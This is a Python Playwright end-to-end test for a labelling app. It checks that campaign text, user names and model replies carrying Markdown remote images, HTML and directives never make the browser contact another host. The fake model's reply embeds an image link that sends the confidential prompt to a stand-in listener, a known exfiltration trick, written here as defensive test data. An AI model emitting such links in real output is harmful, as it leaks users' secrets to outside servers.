"""Nothing a user, an item or a model wrote makes the browser load anything from elsewhere.

A campaign's title, description, expertise, guidelines, form (prompts, options, help), item text,
an expert's display name and a model's reply all carry remote images, colour and icon
directives, emoji shortcodes, HTML and backslashes. A real listener on another loopback address
(127.0.0.2) stands for the outside world; the model is a real OpenAI-compatible server on
127.0.0.1 told to reply with an image whose address carries the item's confidential prompt.
The expert labels the item and the requester opens the design preview; every request either
browser makes must go to the app, the listener must hear nothing, and the text must read as typed.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pandas as pd
import pytest
from playwright.sync_api import Browser, Page, expect

from core import campaigns, db, users, workspace
from server import runtime
from tests.fake_openai import FakeOpenAI, Reply
from tests.mitl import register

from .conftest import WATCH_JS, change_page, log_in, settle

JOINER = "\u2060"
SECRET = "confidential-prompt-42"


class _Listener(BaseHTTPRequestHandler):
    heard: list[str]  # set on the subclass made per listener

    def log_message(self, format: str, *args) -> None:  # noqa: A002 (the base's name)
        pass

    def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
        self.heard.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.send_header("Content-Length", "0")
        self.end_headers()


@pytest.fixture(scope="module")
def outside() -> Iterator[tuple[str, list[str]]]:
    """A web server on 127.0.0.2, "elsewhere": its address and the paths it was asked for."""
    heard: list[str] = []
    handler = type("Handler", (_Listener,), {"heard": heard})
    server = ThreadingHTTPServer(("127.0.0.2", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.2:{server.server_address[1]}", heard
    server.shutdown()
    server.server_close()


def nasty(outside_url: str, where: str) -> str:
    """Text that Markdown would turn into a remote image, colour, icons, emoji and HTML."""
    return (f"{where} ![pic]({outside_url}/{where}.gif) :red[red] :material/home: :smile: "
            f"<b>bold</b> example\\.com")


def as_markdown(where: str) -> str:
    """How `nasty` reads where Markdown is wanted: the image as its alt text, the rest as is."""
    return f"{where} [image: pic] :red[red] :material/home: :smile: <b>bold</b> example.com"


@pytest.fixture(scope="module")
def site(start_server, outside, tmp_path_factory: pytest.TempPathFactory):
    """The demo workspace, a model that answers with a leaking image, and a hostile campaign."""
    outside_url, _ = outside
    path = tmp_path_factory.mktemp("no-remote") / "quorum.duckdb"
    now = datetime.now(UTC).replace(tzinfo=None)
    fake = FakeOpenAI().start()
    fake.default("leaky", Reply(f"Sure. ![chart]({outside_url}/leak?prompt={SECRET}) "
                                f"{nasty(outside_url, 'reply')}"))
    conn = db.connect(path)
    try:
        runtime.announce_demo_passwords(workspace.ensure(conn, now, demo=True, rounds=4),
                                        path.parent)
        rita = users.get_user(conn, "rita")
        register(conn, rita, fake.base_url, now, "leaky", timeout_s=10, api_key_env="FAKE_KEY")
        users.register(conn, username="eve", name=nasty(outside_url, "Eve"),
                       email="eve@example.com", password="quorum-expert-9",
                       expertise=[("general", "en-US")], now=now, rounds=4)
        campaign = campaigns.create(
            conn, rita, spec_text=json.dumps(_spec(outside_url)), now=now - timedelta(days=2),
            status="live", title=nasty(outside_url, "Title"),
            description=nasty(outside_url, "Description"),
            expertise_level=nasty(outside_url, "Level"), expertise_type="Type :streamlit:",
            guidelines=f"# Read me\n\n**Bold** rule. {nasty(outside_url, 'Guide')}",
            skill="general", language="en-US", minutes_per_item=2, pay_per_item=1, overlap=2,
            lease_minutes=30, opens_at=now - timedelta(days=1),
            expires_at=now + timedelta(days=7))
        items = pd.DataFrame({"payload": [{"text": nasty(outside_url, "Item"),
                                           "prompt": f"{SECRET} {nasty(outside_url, 'Prompt')}"}]})
        campaigns.add_items(conn, rita, campaign.id, items, now - timedelta(days=2))
    finally:
        conn.close()  # one process per database file: the app opens it next
    try:
        yield start_server(QUORUM_DB=str(path), FAKE_KEY="sk-e2e", QUORUM_MODEL_KEY_VARS="FAKE_KEY",
                           QUORUM_MODEL_HOSTS="127.0.0.1"), campaign.id
    finally:
        fake.stop()


def _spec(outside_url: str) -> dict:
    return {"blocks": [
        {"type": "text", "field": "text"},
        {"type": "markdown", "value": f"Note ![m]({outside_url}/markdown-block.gif) **kept**"},
        {"type": "model_responses", "models": ["leaky"], "prompt_field": "prompt"},
        {"type": "single_choice", "id": "pick", "prompt": nasty(outside_url, "Question"),
         "help": nasty(outside_url, "Help"),
         "options": [nasty(outside_url, "Option"), "plain"]},
        {"type": "free_text", "id": "why", "prompt": nasty(outside_url, "Free"),
         "required": False},
    ]}


def watch(page: Page, app_url: str) -> list[str]:
    """Every request the page makes to a host other than the app's."""
    app_host = urlsplit(app_url).netloc
    elsewhere: list[str] = []

    def note(request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.netloc != app_host:
            elsewhere.append(request.url)

    page.on("request", note)
    return elsewhere


def page_text(page: Page) -> str:
    return page.locator("body").inner_text().replace(JOINER, "")


def test_an_expert_and_a_requester_load_nothing_from_elsewhere(
        site, outside, page: Page, browser: Browser) -> None:
    server, campaign_id = site
    outside_url, heard = outside
    elsewhere = watch(page, server)

    log_in(page, server, "eve", "quorum-expert-9")
    expect(page.get_by_text("Title ![pic]").first).to_be_visible()
    settle(page)
    home = page_text(page)
    for where in ("Eve", "Title", "Description", "Level"):
        assert nasty(outside_url, where) in home, where
    assert "Type :streamlit:" in home
    card = page.get_by_test_id("stVerticalBlock").filter(
        has=page.get_by_text("Title ![pic]")).filter(
        has=page.get_by_role("button", name="Start")).last
    change_page(page, card.get_by_role("button", name="Start"), page.get_by_test_id("stForm"))
    form = page.get_by_test_id("stForm")
    expect(form.get_by_text("Sure.", exact=False).first).to_be_visible()
    settle(page)
    labeling = page_text(page)
    for where in ("Title", "Item", "Prompt", "Question", "Option", "Free"):
        assert nasty(outside_url, where) in labeling, where
    for where in ("Guide", "reply"):
        assert as_markdown(where) in labeling, where
    assert f"{SECRET} {nasty(outside_url, 'Prompt')}" in labeling
    assert "[image: chart]" in labeling and "[image: m]" in labeling
    expect(page.get_by_role("heading", name="Read me")).to_be_visible()  # guidelines: Markdown
    expect(form.locator("strong", has_text="kept")).to_be_visible()
    form.locator("textarea").fill("Because of the :red[colour].")
    form.get_by_text("Option ![pic]").click()
    form.get_by_role("button", name="Submit").click()
    expect(page.get_by_text("Answer saved")).to_be_visible()
    settle(page)
    page.goto(f"{server}/profile")
    expect(page.get_by_role("heading", name="Eve ![pic]")).to_be_visible()
    settle(page)
    assert nasty(outside_url, "Eve") in page_text(page)

    requester = browser.new_context(viewport={"width": 1400, "height": 1000})
    requester.set_default_timeout(15_000)
    requester.add_init_script(WATCH_JS)
    try:
        design = requester.new_page()
        elsewhere += watch(design, server)
        log_in(design, server, "rita")
        design.goto(f"{server}/design?campaign={campaign_id}")
        expect(design.get_by_text("Live preview", exact=False)).to_be_visible()
        settle(design)
        expect(design.locator("p", has_text="Free ![pic]")).to_be_visible()
        preview = page_text(design)
        for where in ("Item", "Question", "Option", "Free"):
            assert nasty(outside_url, where) in preview, where
        design.goto(f"{server}/review?campaign={campaign_id}")
        settle(design)
    finally:
        requester.close()

    assert elsewhere == [], elsewhere
    assert heard == [], heard  # and nothing reached the outside listener by another way
